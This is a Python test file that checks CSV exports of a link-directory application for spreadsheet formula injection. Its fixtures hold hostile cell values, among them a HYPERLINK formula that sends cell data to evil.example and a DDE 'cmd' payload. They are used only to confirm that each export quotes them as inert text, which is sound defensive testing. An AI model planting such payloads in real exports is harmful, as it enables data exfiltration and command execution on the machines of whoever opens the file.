"""Every CSV the product writes keeps spreadsheet formulas as text (defect 3)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from litestar.testing import AsyncTestClient
from sqlalchemy.ext.asyncio import AsyncSession

from linkdir.cli import main
from linkdir.csvout import FORMULA_START, safe_cell
from linkdir.resources.models import Resource
from linkdir.transfer.csvio import decode, parse_csv
from tests.checks.test_report import signed_in
from tests.conftest import make_resource
from tests.test_cli import base_env, run

Client = AsyncTestClient[Any]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
HOSTILE_TITLES = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"]


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_inert(all_cells: list[str]) -> None:
    live = [cell for cell in all_cells if cell.startswith(FORMULA_START)]
    assert live == [], live


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_owasp_start_character_is_neutralised(start: str) -> None:
    assert safe_cell(start + "x") == "'" + start + "x"
    assert safe_cell("Bibliotek " + start) == "Bibliotek " + start
    assert safe_cell(-5) == -5  # a number is not a formula


async def hostile_resources(session: AsyncSession) -> list[Resource]:
    made = []
    for number, title in enumerate(HOSTILE_TITLES):
        resource = await make_resource(
            session, url=f"https://trasig.example.se/{number}", title=f"x{number}"
        )
        row = await session.get(Resource, resource.id)
        assert row is not None
        # Titles are cleaned of control characters by the resource rules; a row written
        # by an older version (or by hand) can still hold them, and must not run.
        row.title, row.link_status, row.reason = title, "broken", "http_404"
        row.publisher = "=1+1"
        made.append(row)
    await session.commit()
    return made


async def test_the_link_report_csv_keeps_formulas_as_text(
    client: Client, session: AsyncSession
) -> None:
    await hostile_resources(session)
    await signed_in(client, session)
    response = await client.get("/manage/links.csv?tab=broken")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert sorted(row["title"] for row in rows) == sorted("'" + t for t in HOSTILE_TITLES)
    assert_inert(cells(text, ";"))


async def test_the_directory_export_csv_keeps_formulas_and_reimports_them(
    client: Client, session: AsyncSession
) -> None:
    await hostile_resources(session)
    await signed_in(client, session)
    response = await client.get("/manage/export.csv")
    assert response.status_code == 200
    text = decode(response.content)
    assert_inert(cells(text, ";"))
    # Our own import drops the protective quote again: the round trip is lossless.
    titles = {draft.title for draft in parse_csv(text).drafts}
    assert FORMULA in titles and "@SUM(1+1)" in titles


async def test_the_cli_export_csv_keeps_formulas_as_text(
    database_url: str, session: AsyncSession, tmp_path: Path
) -> None:
    await hostile_resources(session)
    out = tmp_path / "export.csv"
    result = run(["export", "--format", "csv", "-o", str(out)], base_env(database_url))
    assert result.returncode == 0, result.stderr
    text = decode(out.read_bytes())
    assert "'" + FORMULA.replace('"', '""') in text
    assert_inert(cells(text, ";"))


def test_check_urls_csv_keeps_a_hostile_input_line_as_text() -> None:
    result = CliRunner().invoke(
        main,
        ["check-urls", "-", "--format", "csv", "--workers", "1"],
        input=FORMULA + "\n@evil\n",
    )
    assert "Traceback" not in result.output
    assert_inert(cells(result.output))
    assert "'" + FORMULA in cells(result.output)
